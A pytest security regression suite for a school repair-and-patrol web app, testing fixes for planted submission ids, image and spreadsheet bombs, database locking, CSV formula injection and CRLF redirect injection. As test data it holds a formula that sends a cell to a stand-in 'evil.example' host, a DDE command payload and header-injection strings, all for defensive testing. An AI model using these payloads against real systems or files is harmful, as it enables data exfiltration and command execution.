"""Issue 10, one test per finding: planted submission ids, photo memory, import bombs, "database is locked",
formula injection in exports, and 500s on bad input."""
import concurrent.futures
import csv
import datetime as dt
import http.cookiejar
import io
import json
import os
import pathlib
import re
import socket
import sqlite3
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.parse
import urllib.request
import uuid
import zipfile

import pytest
from flask_babel import force_locale
from openpyxl import Workbook
from helpers import PASSWORD, PASSWORD_HASH, PG_URL, csrf_token, login
from test_patrol_helpers import around_now, make_route

from houqin import db
from houqin.clock import utcnow
from houqin.exports import safe_cell
from houqin.importing.files import ImportFileError, read_upload
from houqin.models import Membership, PatrolRun, PatrolScan, Place, Record, RouteStop, Tag, User, WorkOrder
from houqin.repairs.links import follow_link_for, resolve
from houqin.scan.actions import record_report
from houqin.scan.records import TooManyReports, parse_client_time
from houqin.web import MAX_ID, int_or_none

# The namespace and key shapes the patrol checkpoint used for its record ids before issue 10: anyone who knows
# them (they were in the source) could compute a guard's next id.
ROOT = pathlib.Path(__file__).resolve().parent.parent
OLD_SCAN_NAMESPACE = uuid.UUID('6f1d8a52-3c0e-4b7a-9a55-7d1c2e9b4f10')


@pytest.fixture
def live_route(app, school):
    """A route whose one round is running now: 校门 → 配电房."""
    route, places, tags, stops = make_route(school['campus'], ['校门', '配电房'], shift=around_now(utcnow()),
                                            every=24 * 60)
    return {'route': route, 'places': places, 'tags': tags, 'stops': stops}


def predictable_patrol_ids(route, guard, place):
    """Every id the old scheme would give the guard's next scan of the place: in the round (the next runs,
    which are numbered in order) and outside any round (this five-minute bucket and the next)."""
    stop = RouteStop.get((RouteStop.route == route) & (RouteStop.place == place))
    last_run = PatrolRun.select(PatrolRun.id).order_by(PatrolRun.id.desc()).scalar() or 0
    keys = [f'patrol:{run}:{stop.id}:{guard.id}' for run in range(last_run + 1, last_run + 4)]
    bucket = int(utcnow().timestamp()) // 300
    keys += [f'patrol:{place.id}:{guard.id}:{b}' for b in (bucket, bucket + 1)]
    return [str(uuid.uuid5(OLD_SCAN_NAMESPACE, key)) for key in keys]


@pytest.mark.parametrize('attacker', ['anonymous', 'teacher'])
def test_a_planted_patrol_id_never_spoils_the_guards_scan(app, school, live_route, attacker):
    """Finding 1: an attacker sends reports at the checkpoint carrying every id the guard's next scan could
    get; the guard's scan is still recorded, answered 200, and each report is the attacker's own record."""
    guard = school['users']['guard']
    place, tag = live_route['places'][0], live_route['tags'][0]
    client = app.test_client()
    if attacker != 'anonymous':
        assert login(client, attacker).status_code == 302
    planted = predictable_patrol_ids(live_route['route'], guard, place)
    for sid in planted:
        data = {'csrf_token': csrf_token(client, f'/t/{tag.token}'), 'submission_id': sid, 'title': '门坏了'}
        assert client.post(f'/t/{tag.token}/report', data=data).status_code == 302
    assert Record.select().where(Record.activity == 'report').count() == len(planted)
    guard_client = app.test_client()
    assert login(guard_client, 'guard').status_code == 302
    for _reload in range(2):
        response = guard_client.get(f'/t/{tag.token}')
        assert response.status_code == 200
        assert '1/2' in response.get_data(as_text=True)
    scan = PatrolScan.get()
    assert (scan.user_id, scan.place_id, scan.record.activity, scan.record.user_id) == (
        guard.id, place.id, 'patrol', guard.id)
    assert PatrolScan.select().count() == 1
    reports = list(Record.select().where(Record.activity == 'report'))
    assert {r.user_id for r in reports} == ({None} if attacker == 'anonymous' else {school['users'][attacker].id})
    assert WorkOrder.select().count() == len(planted)


def test_the_same_client_id_from_two_people_is_two_records(app, school):
    """Finding 1: a submission id is the submitter's own; another person (or address) sending the same id
    stores their own record instead of being answered with, or refused for, the first person's."""
    sid = str(uuid.uuid4())
    tag = Tag.get(Tag.token == 'ABCDEFGH12')
    answers = []
    for who in ('teacher', 'janitor', None):
        client = app.test_client()
        if who:
            assert login(client, who).status_code == 302
        data = {'csrf_token': csrf_token(client, f'/t/{tag.token}'), 'submission_id': sid, 'title': f'{who} 报修'}
        answers.append(client.post(f'/t/{tag.token}/report', data=data).status_code)
        answers.append(client.post(f'/t/{tag.token}/report', data=data).status_code)  # a double tap: stored once
    assert answers == [302] * 6
    assert sorted(r.note for r in Record.select()) == ['None 报修', 'janitor 报修', 'teacher 报修']
    assert sorted(o.title for o in WorkOrder.select()) == ['None 报修', 'janitor 报修', 'teacher 报修']


def test_ledger_csv_cells_never_run_as_formulas(app, school, as_role):
    """Finding 5: an anonymous report titled like a formula, a reporter named like one and a place named like
    one reach the ledger CSV as text (a leading apostrophe), every other cell unchanged."""
    title = '=HYPERLINK("http://evil.example/?x="&B2,"Click")'
    name = "@SUM(1+1)*cmd|' /C calc'!A0"
    Place.update(name='+地下楼').where(Place.id == school['building'].id).execute()
    client = app.test_client()
    data = {'csrf_token': csrf_token(client, '/t/ABCDEFGH12'), 'submission_id': str(uuid.uuid4()), 'title': title,
            'name': name, 'phone': '-1'}
    assert client.post('/t/ABCDEFGH12/report', data=data).status_code == 302
    WorkOrder.update(liable_party='\t-cmd').execute()
    response = as_role('manager').get('/repairs/ledger.csv', follow_redirects=True)  # now the one ledger export
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip('\ufeff'))))
    assert len(rows) == 3  # title, header, the order
    number, _reported, where, _asset, problem, _category, _priority, _hazard, _status, reporter, *_rest = rows[2]
    liable = rows[2][13]
    assert rows[1][13] == '责任人'  # headers in the user's language, while streaming too
    assert (problem, reporter, where, liable) == ("'" + title, "'" + name, "'+地下楼 › 一楼 › 101教室", "'\t-cmd")
    assert number == WorkOrder.get().number
    assert not any(cell.startswith(('=', '+', '-', '@', '\t', '\r')) for row in rows for cell in row)


@pytest.mark.parametrize('value, expected', [
    ('=1+1', "'=1+1"), ('+86 138', "'+86 138"), ('-5', "'-5"), ('@A1', "'@A1"), ('\tx', "'\tx"), ('\rx', "'\rx"),
    ('一楼 = 二楼', '一楼 = 二楼'), ('', ''), (-5, -5), (None, None), ("'=x", "'=x")])
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


# Finding 10: bad input is a 4xx with a message, never a 500 -------------------------------------------------------

HUGE = str(2 ** 64)


@pytest.mark.parametrize('path, expected', [
    (f'/repairs/{HUGE}', 404), (f'/photos/{HUGE}', 404), (f'/admin/places/{HUGE}', 404), ('/repairs/0', 404),
    (f'/admin/places?parent={HUGE}', 404), (f'/admin/items?place={HUGE}', 404), ('/admin/places?parent=²', 404),
    (f'/repairs/board?assignee={HUGE}', 200), ('/repairs/board?assignee=²', 200), ('/repairs/board?page=²', 200),
    (f'/repairs/board?building={HUGE}&page={HUGE}', 200), ('/admin/labels/page.css?layout=custom-²', 200),
    (f'/admin/labels/page.css?layout=custom-{HUGE}', 200), ('/patrol/reports/?night=0001-01-01', 400),
    ('/patrol/reports/?night=9999-12-31', 400), ('/repairs/ledger?from=0001-01-01', 400),
    ('/patrol/reports/guards?from=0001-01-01&to=9999-12-31', 400),
    ('/t/ABCDEFGH12?client_time=9999-12-31T23:59:59-14:00', 200),
])
def test_bad_numbers_and_dates_in_urls_are_answered_not_500(as_role, path, expected):
    assert as_role('admin').get(path).status_code == expected


@pytest.mark.parametrize('path', ['/login?next=%00', '/admin/places?q=%00', '/t/ABCDEFGH12?x=a%01b',
                                  '/t/%00ABCDEFGH12'])
def test_control_characters_are_refused_at_the_edge(client, path):
    response = client.get(path)
    assert response.status_code == 400
    assert '请求中含有控制字符' in response.get_data(as_text=True)


def test_a_nul_in_a_form_is_refused_and_changes_nothing(app, school):
    client = app.test_client()
    token = csrf_token(client, '/t/ABCDEFGH12')
    for data in ({'title': '灯坏了\x00'}, {'title': '灯坏了', 'name': 'a\x00'}, {'title\x00': 'x'}):
        response = client.post('/t/ABCDEFGH12/report', data={'csrf_token': token, 'submission_id': str(uuid.uuid4()),
                                                              **data})
        assert response.status_code == 400 and '请求中含有控制字符' in response.get_data(as_text=True)
    response = client.post('/login', data={'csrf_token': csrf_token(client, '/login'), 'username': 'admin\x00',
                                           'password': 'x'})
    assert response.status_code == 400
    assert Record.select().count() == 0 and WorkOrder.select().count() == 0


def test_an_anonymous_report_with_an_impossible_phone_clock_is_stored_without_it(app, school):
    client = app.test_client()
    data = {'csrf_token': csrf_token(client, '/t/ABCDEFGH12'), 'submission_id': str(uuid.uuid4()), 'title': '灯坏了',
            'client_time': '9999-12-31T23:59:59-14:00'}
    assert client.post('/t/ABCDEFGH12/report', data=data).status_code == 302
    assert Record.get().client_time is None


@pytest.mark.parametrize('clock, expected', [
    ('2026-03-10T08:00:00.000Z', dt.datetime(2026, 3, 10, 8)), ('2026-03-10T16:00:00+08:00', dt.datetime(2026, 3, 10, 8)),
    ('9999-12-31T23:59:59-14:00', None), ('0001-01-01T00:00:00+14:00', None), ('1999-12-31T23:59:59Z', None),
    ('2026-03-10T08:00:00', None), ('x' * 100_000, None), ('', None), (None, None)])
def test_parse_client_time(clock, expected):
    assert parse_client_time(clock) == expected


@pytest.mark.parametrize('text, low, high, expected', [
    ('42', 1, MAX_ID, 42), (' 7 ', 1, 10, 7), ('²', 1, MAX_ID, None), ('١٢', 1, MAX_ID, None), (HUGE, 1, MAX_ID, None),
    (str(MAX_ID), 1, MAX_ID, MAX_ID), ('0', 1, 10, None), ('-3', -5, 5, -3), ('-3', 1, 5, None), ('', 1, 5, None),
    ('1e3', 1, 5000, None), ('+5', 1, 10, None), (None, 1, 5, None)])
def test_int_or_none(text, low, high, expected):
    assert int_or_none(text, low, high) == expected


def test_a_crlf_in_next_or_back_never_breaks_the_redirect_after_saving(app, school, as_role):
    manager = as_role('manager')
    reporter = app.test_client()
    data = {'csrf_token': csrf_token(reporter, '/t/ABCDEFGH12'), 'submission_id': str(uuid.uuid4()), 'title': '灯坏了'}
    reporter.post('/t/ABCDEFGH12/report', data=data)
    order = WorkOrder.get()
    token = csrf_token(manager, f'/repairs/{order.id}')
    repair = school['users']['repair']
    response = manager.post('/repairs/board/assign', data={
        'csrf_token': token, 'order': [str(order.id), '²', HUGE], 'assignee': str(repair.id),
        'back': '/repairs/board\r\nSet-Cookie: x=1'})
    assert (response.status_code, response.headers['Location']) == (302, '/repairs/board')
    assert WorkOrder.get().assignee_id == repair.id
    response = manager.post(f'/repairs/{order.id}/act', data={
        'csrf_token': token, 'action': 'comment', 'note': '看过了', 'next': '/repairs/board\r\nLocation: //evil'})
    assert response.status_code in (302, 400, 409)
    assert 'evil' not in response.headers.get('Location', '')


def test_settings_and_layout_numbers_written_oddly_are_refused_with_a_message(as_role):
    admin = as_role('admin')
    token = csrf_token(admin, '/repairs/settings')
    response = admin.post('/repairs/settings', data={'csrf_token': token, 'hours_urgent': '²', 'hours_high': HUGE,
                                                     'hours_normal': '72', 'hours_low': '168',
                                                     'assignee_plumbing': '²', 'assignee_electrical': HUGE})
    assert response.status_code == 400
    html = response.get_data(as_text=True)
    assert html.count('小时数应为 1 到 1440 的整数') == 2 and html.count('请从列表中选择') == 2
    token = csrf_token(admin, '/admin/labels/layouts/new')
    response = admin.post('/admin/labels/layouts/new', data={'csrf_token': token, 'name': 'x', 'columns': '²',
                                                             'rows': HUGE})
    assert response.status_code == 400 and response.get_data(as_text=True).count('请输入 1 到 30 之间的整数') == 2
    response = admin.post('/admin/labels/unclaimed', data={'csrf_token': csrf_token(admin, '/admin/labels/unclaimed'),
                                                           'count': '²'})
    assert response.status_code == 200 and '请输入 1 到 1000 之间的整数' in response.get_data(as_text=True)
    assert Tag.select().where(Tag.status == 'unclaimed').count() == 0
    response = admin.post('/admin/checklists/new', data={'csrf_token': csrf_token(admin, '/admin/checklists/new'),
                                                        'rows': 'abc', 'name': '检查'})
    assert response.status_code == 400


# Finding 3: a small workbook declaring or holding millions of cells ---------------------------------------------

def workbook_with_sheet(sheet_xml):
    """An .xlsx whose first sheet's XML is replaced by sheet_xml (the rest from a real openpyxl workbook)."""
    book = Workbook()
    book.active.append(['名称', '类型'])
    plain = io.BytesIO()
    book.save(plain)
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(plain.getvalue())) as source, \
            zipfile.ZipFile(out, 'w', zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info.filename)
            target.writestr(info, sheet_xml if info.filename == 'xl/worksheets/sheet1.xml' else data)
    return out.getvalue()


SHEET_HEAD = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
              '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">')
CELLS_MESSAGE = '表格的单元格超过 400,000 个'


@pytest.fixture
def chinese(app):
    """Messages in Chinese outside a request."""
    with app.app_context(), force_locale('zh_CN'):
        yield


def test_a_workbook_declaring_a_huge_sheet_is_refused_before_reading(chinese):
    data = workbook_with_sheet(SHEET_HEAD + '<dimension ref="A1:XFD1048576"/><sheetData>'
                               '<row r="1"><c r="A1" t="inlineStr"><is><t>名称</t></is></c></row>'
                               '</sheetData></worksheet>')
    assert len(data) < 10_000
    with pytest.raises(ImportFileError) as refused:
        read_upload('places.xlsx', data)
    assert CELLS_MESSAGE in str(refused.value)


def test_a_workbook_holding_400_thousand_cells_under_a_small_declared_size_is_refused_while_reading(chinese):
    rows = ('<row>' + '<c/>' * 10 + '</row>') * 40_001
    data = workbook_with_sheet(SHEET_HEAD + '<dimension ref="A1:B2"/><sheetData>' + rows + '</sheetData></worksheet>')
    assert len(data) < 400_000
    with pytest.raises(ImportFileError) as refused:
        read_upload('places.xlsx', data)
    assert CELLS_MESSAGE in str(refused.value)


def test_an_upload_of_a_huge_sheet_says_so_and_imports_nothing(as_role):
    admin = as_role('admin')
    data = workbook_with_sheet(SHEET_HEAD + '<dimension ref="A1:Z1048576"/><sheetData></sheetData></worksheet>')
    token = csrf_token(admin, '/admin/import/')
    response = admin.post('/admin/import/', data={'csrf_token': token, 'kind': 'places',
                                                 'file': (io.BytesIO(data), 'places.xlsx')},
                          content_type='multipart/form-data')
    assert response.status_code == 200 and CELLS_MESSAGE in response.get_data(as_text=True)
    assert Place.select().count() == 3  # the test school's own


# Finding 2: photos decode within a memory budget, a few at a time ----------------------------------------------

MAKE_IMAGES = '''
import sys
from PIL import Image
folder = sys.argv[1]
Image.new('RGBA', (7000, 7000), (10, 200, 30, 128)).save(f'{folder}/bomb.png')
Image.new('RGBA', (4000, 3000), (10, 200, 30, 128)).save(f'{folder}/largest.png')
Image.new('RGB', (8000, 6000), (200, 30, 30)).save(f'{folder}/large.jpg', quality=60)
'''

MEASURE = '''
import io, json, resource, sys
from werkzeug.datastructures import FileStorage
from houqin import create_app
from houqin.photos import PhotoError, prepare_photo
app = create_app({'TESTING': True, 'DATABASE_URL': 'sqlite:///' + sys.argv[1] + '/unused.sqlite3',
                  'SECRET_KEY': 'x', 'PHOTO_DIR': sys.argv[1]})
data = open(sys.argv[2], 'rb').read()
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
with app.test_request_context():
    try:
        prepared = prepare_photo(FileStorage(io.BytesIO(data), filename='x'))
        outcome = [prepared.width, prepared.height]
    except PhotoError as exc:
        outcome = str(exc)
after = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
print(json.dumps({'mb': (after - before) / 1024, 'outcome': outcome}))
'''


@pytest.fixture(scope='module')
def hostile_images(tmp_path_factory):
    """A 7000×7000 RGBA PNG (186 KB on disk, 196 MB decoded), the largest PNG accepted and a 48 M pixel JPEG,
    made in another process so this one's memory stays small."""
    folder = tmp_path_factory.mktemp('hostile')
    subprocess.run([sys.executable, '-c', MAKE_IMAGES, str(folder)], check=True)
    return folder


@pytest.mark.parametrize('name, outcome', [('bomb.png', '照片像素太多（7000×7000）。'),
                                           ('largest.png', [2048, 1536]), ('large.jpg', [2048, 1536])])
def test_no_upload_raises_a_workers_memory_by_more_than_150_mb(hostile_images, name, outcome):
    """Finding 2: the peak memory of a fresh process preparing the photo, over what it held before."""
    done = subprocess.run([sys.executable, '-c', MEASURE, str(hostile_images), str(hostile_images / name)],
                          check=True, capture_output=True, text=True)
    measured = json.loads(done.stdout)
    assert measured['outcome'] == outcome
    assert measured['mb'] < 150, measured


def test_a_burst_of_hostile_uploads_leaves_healthz_answering_within_a_second(app, school, live_server,
                                                                             hostile_images):
    """Finding 2: eight anonymous reports with the largest accepted PNG and the 7000×7000 one at once, over a
    threaded server; /healthz answers within a second throughout."""
    app.config['ANONYMOUS_REPORTS_PER_HOUR'] = 100
    files = [(hostile_images / ('largest.png' if i % 2 else 'bomb.png')).read_bytes() for i in range(8)]

    def send(data):
        session = http.cookiejar.CookieJar()
        opener = urllib.request.build_opener(urllib.request.HTTPCookieProcessor(session))
        page = opener.open(f'{live_server}/t/ABCDEFGH12').read().decode()
        fields = dict(re.findall(r'<input type="hidden" name="([^"]+)" value="([^"]*)"',
                                 page[page.index('action="/t/ABCDEFGH12/report"'):]))
        body, boundary = multipart({**fields, 'title': '墙上有洞'}, 'photo', data)
        uploads_start.wait(timeout=60)  # the burst is of uploads: the pages they came from are fetched first
        request = urllib.request.Request(f'{live_server}/t/ABCDEFGH12/report', data=body, method='POST',
                                         headers={'Content-Type': f'multipart/form-data; boundary={boundary}'})
        try:
            return opener.open(request, timeout=60).status
        except urllib.error.HTTPError as exc:
            return exc.code

    urllib.request.urlopen(f'{live_server}/healthz', timeout=5).read()  # the server's first connection is no burst
    uploads_start = threading.Barrier(len(files) + 1)
    with concurrent.futures.ThreadPoolExecutor(8) as pool:
        sent = [pool.submit(send, data) for data in files]
        uploads_start.wait(timeout=60)
        waits = []
        while not all(f.done() for f in sent):
            started = time.monotonic()
            assert urllib.request.urlopen(f'{live_server}/healthz', timeout=5).status == 200
            waits.append(time.monotonic() - started)
            time.sleep(0.05)
        statuses = sorted(f.result() for f in sent)
    assert statuses == [200] * 4 + [400] * 4  # four reports stored (after the redirect), four photos refused
    assert waits and max(waits) < 1, waits
    assert Record.select().count() == 4


def multipart(fields, file_field, data):
    """A multipart/form-data body with text fields and one file."""
    boundary = uuid.uuid4().hex
    parts = [f'--{boundary}\r\nContent-Disposition: form-data; name="{k}"\r\n\r\n{v}\r\n'.encode()
             for k, v in fields.items()]
    parts.append(f'--{boundary}\r\nContent-Disposition: form-data; name="{file_field}"; filename="p.png"\r\n'
                 f'Content-Type: image/png\r\n\r\n'.encode() + data + b'\r\n')
    return b''.join(parts) + f'--{boundary}--\r\n'.encode(), boundary


def test_simultaneous_anonymous_reports_from_one_address_keep_to_the_hourly_limit(app, school, live_server):
    """Finding 2: eight reports from one address at once, limit three: the count is made inside each storing
    transaction, one address at a time, so exactly three are stored and five are told to wait."""
    app.config['ANONYMOUS_REPORTS_PER_HOUR'] = 3
    start = threading.Barrier(8)

    def send(i):
        opener = urllib.request.build_opener(urllib.request.HTTPCookieProcessor(http.cookiejar.CookieJar()))
        page = opener.open(f'{live_server}/t/ABCDEFGH12').read().decode()
        fields = dict(re.findall(r'<input type="hidden" name="([^"]+)" value="([^"]*)"',
                                 page[page.index('action="/t/ABCDEFGH12/report"'):]))
        body = urllib.parse.urlencode({**fields, 'title': f'第{i}处漏水'}).encode()
        start.wait()
        try:
            return opener.open(f'{live_server}/t/ABCDEFGH12/report', data=body, timeout=30).status
        except urllib.error.HTTPError as exc:
            return exc.code

    with concurrent.futures.ThreadPoolExecutor(8) as pool:
        statuses = sorted(pool.map(send, range(8)))
    assert statuses == [200] * 3 + [429] * 5
    assert Record.select().count() == 3 and WorkOrder.select().count() == 3


def test_the_hourly_limit_is_counted_where_the_report_is_stored(app, school):
    """Finding 2: record_report itself (not only the page's early check) refuses an address over its limit,
    with nothing stored."""
    app.config['ANONYMOUS_REPORTS_PER_HOUR'] = 2
    tag = Tag.get(Tag.token == 'ABCDEFGH12')
    with app.test_request_context():
        for i in range(2):
            assert record_report(str(uuid.uuid4()), tag, school['room'], title='漏水', category=None, hazard=False,
                                 upload=None, address='10.0.0.9').created
        with pytest.raises(TooManyReports):
            record_report(str(uuid.uuid4()), tag, school['room'], title='漏水', category=None, hazard=False,
                          upload=None, address='10.0.0.9')
        assert record_report(str(uuid.uuid4()), tag, school['room'], title='漏水', category=None, hazard=False,
                             upload=None, address='10.0.0.10').created  # another address has its own
    assert Record.select().count() == 3 and WorkOrder.select().count() == 3


# Finding 4: "database is locked" under concurrent guard scans --------------------------------------------------

@pytest.fixture
def four_workers(app, database_url, tmp_path):
    """The app under gunicorn with four worker processes on the test's database; yields its address."""
    with socket.socket() as s:
        s.bind(('127.0.0.1', 0))
        port = s.getsockname()[1]
    env = dict(os.environ, HOUQIN_DATABASE_URL=database_url, HOUQIN_SECRET_KEY='shared-secret',
               HOUQIN_INSTANCE_PATH=str(tmp_path / 'inst'), HOUQIN_ENV='development',
               HOUQIN_NOTIFY_AFTER_REQUESTS='0', HOUQIN_PHOTO_DIR=str(tmp_path / 'photos'))
    proc = subprocess.Popen([sys.executable, '-m', 'gunicorn', '-w', '4', '-b', f'127.0.0.1:{port}', 'app:app'],
                            cwd=ROOT, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    try:
        for _ in range(150):
            try:
                urllib.request.urlopen(f'http://127.0.0.1:{port}/healthz', timeout=1)
                break
            except OSError:
                time.sleep(0.1)
        else:
            raise RuntimeError('gunicorn did not start: ' + proc.stderr.read().decode()[-2000:])
        yield f'http://127.0.0.1:{port}'
    finally:
        proc.terminate()
        proc.wait(timeout=10)


@pytest.mark.slow
@pytest.mark.parametrize('server', ['live_server', 'four_workers'])
def test_sixteen_guards_scanning_at_once_get_no_errors(request, app, school, server):
    """Finding 4: sixteen guards walk the same route at the same moment, over a threaded server and over four
    gunicorn workers, each scan followed by an anomaly: every scan and anomaly is answered 200 (after its
    redirect), none is 'database is locked', and each is stored once."""
    route, places, tags, stops = make_route(school['campus'], ['东门', '西门', '北门'],
                                            shift=around_now(utcnow()), every=24 * 60)
    guards = [User.create(username=f'guard{i}', display_name=f'保安{i}', password_hash=PASSWORD_HASH)
              for i in range(16)]
    for guard in guards:
        Membership.create(user=guard, campus=school['campus'], role='guard')
    address = request.getfixturevalue(server)
    start = threading.Barrier(16)

    def walk(guard):
        opener = urllib.request.build_opener(urllib.request.HTTPCookieProcessor(http.cookiejar.CookieJar()))
        page = opener.open(f'{address}/login').read().decode()
        token = re.search(r'name="csrf_token"[^>]*value="([^"]+)"', page)[1]
        opener.open(f'{address}/login', data=urllib.parse.urlencode(
            {'csrf_token': token, 'username': guard.username, 'password': PASSWORD}).encode())
        start.wait()
        statuses = []
        for tag in tags:
            try:
                page = opener.open(f'{address}/t/{tag.token}', timeout=30)
                statuses.append(page.status)
                html = page.read().decode()
                scan_id = re.search(r'action="/patrol/scans/(\d+)/anomaly"', html)[1]
                fields = dict(re.findall(r'<input type="hidden" name="([^"]+)" value="([^"]*)"', html))
                answer = opener.open(f'{address}/patrol/scans/{scan_id}/anomaly', timeout=30, data=urllib.parse.urlencode(
                    {**fields, 'anomaly': 'light_on'}).encode())
                statuses.append(answer.status)
            except urllib.error.HTTPError as exc:
                statuses.append(exc.code)
        return statuses

    with concurrent.futures.ThreadPoolExecutor(16) as pool:
        statuses = [s for walked in pool.map(walk, guards) for s in walked]
    assert statuses == [200] * 96
    assert PatrolScan.select().count() == 48
    assert Record.select().where(Record.outcome == 'problem').count() == 48
    assert PatrolRun.select().count() == 1


def test_every_write_transaction_goes_through_write_transaction():
    """Finding 4: no module opens a transaction of its own (a deferred SQLite transaction that reads, then
    writes, fails 'database is locked' when another writer commits in between); db.write_transaction does."""
    found = []
    for path in sorted((ROOT / 'houqin').rglob('*.py')):
        relative = path.relative_to(ROOT).as_posix()
        if relative == 'houqin/db.py' or relative.startswith('houqin/migrations/'):
            continue
        found += [f'{relative}:{n}' for n, line in enumerate(path.read_text().splitlines(), 1) if '.atomic(' in line]
    assert found == []


@pytest.mark.skipif(bool(PG_URL), reason="SQLite's write lock, held by another connection")
def test_a_busy_database_is_tried_again_before_answering(app, school):
    """Finding 4: another process holds SQLite's write lock longer than this connection waits; the report is
    stored by a second try once the lock is free, instead of failing 'database is locked'."""
    tag = Tag.get(Tag.token == 'ABCDEFGH12')
    db.database.close()
    db.database.obj._timeout = 0.05   # wait 50 ms for the lock, then answer busy
    holder = sqlite3.connect(db.database.obj.database, isolation_level=None, check_same_thread=False)
    holder.execute('BEGIN IMMEDIATE')
    threading.Timer(0.15, holder.rollback).start()
    try:
        with app.test_request_context():
            outcome = record_report(str(uuid.uuid4()), tag, school['room'], title='水管漏水', category=None,
                                    hazard=False, upload=None, user=school['users']['teacher'])
    finally:
        db.database.close()
        db.database.obj._timeout = 10
        holder.close()
    assert outcome.created and outcome.order.title == '水管漏水'
    assert Record.select().count() == 1 and WorkOrder.select().count() == 1


# Finding 8: a follow link shows only what its holder reported -------------------------------------------------

def anonymous_post(client, path, data):
    """POST a form of the label page as this browser, with the page's CSRF token and a fresh submission id."""
    return client.post(path, data={'csrf_token': csrf_token(client, '/t/ABCDEFGH12'),
                                   'submission_id': str(uuid.uuid4()), **data})


def test_who_joins_same_problem_gets_their_own_link_never_the_first_reporters(app, school):
    """Finding 8: anonymous A reports (name, phone, later a note through her link); anonymous B joins "same
    problem". B's receipt, cookie, label page and follow page carry B's own link and show neither A's name, phone
    nor note, nor A's link; what B adds through his link stays his and is no comment of A's."""
    a, b = app.test_client(), app.test_client()
    reported = anonymous_post(a, '/t/ABCDEFGH12/report', {'title': '水龙头一直滴水', 'name': '张三丰',
                                                          'phone': '13800000007'})
    assert reported.status_code == 302
    order = WorkOrder.get()
    assert a.get_cookie('my_reports').value == order.follow_secret
    a_link = f'/repairs/follow/{order.follow_secret}'
    added = a.post(a_link, data={'csrf_token': csrf_token(a, a_link), 'note': '张三丰：下午更严重'})
    assert added.status_code == 302

    joined = anonymous_post(b, f'/t/ABCDEFGH12/same/{order.id}', {'name': '李四光'})
    assert joined.status_code == 302 and '/receipt/' in joined.headers['Location']
    record = Record.get(Record.reporter_name == '李四光')
    with app.test_request_context('/'):
        b_link = follow_link_for(order, record)
    assert b_link != a_link
    b_secret = b_link.rsplit('/', 1)[1]
    assert b.get_cookie('my_reports').value == b_secret   # only B's own link, never the order's
    receipt = b.get(joined.headers['Location']).get_data(as_text=True)
    label_page = b.get('/t/ABCDEFGH12').get_data(as_text=True)
    mine = label_page[label_page.index('您最近的报告'):]
    follow = b.get(b_link).get_data(as_text=True)
    assert f'href="{b_link}"' in receipt and f'http://localhost{b_link}' in receipt
    assert f'href="{b_link}"' in mine and order.number in mine
    for page_html in (receipt, mine, follow):
        for secret_of_a in (order.follow_secret, '张三丰', '13800000007', '下午更严重'):
            assert secret_of_a not in page_html, secret_of_a

    b_added = b.post(b_link, data={'csrf_token': csrf_token(b, b_link), 'note': '李四光：拍了照片'})
    assert (b_added.status_code, b_added.headers['Location']) == (302, b_link)
    assert '李四光：拍了照片' in b.get(b_link).get_data(as_text=True)
    a_page = a.get(a_link).get_data(as_text=True)
    assert '张三丰：下午更严重' in a_page and '李四光' not in a_page and '拍了照片' not in a_page
    with app.test_request_context('/'):
        holders = {e.note: (e.data or {}).get('link') for e in order.events if e.action == 'comment'}
        assert holders == {'张三丰：下午更严重': 'order', '李四光：拍了照片': f'r{record.id}'}
        assert resolve(b_secret).holder == f'r{record.id}'
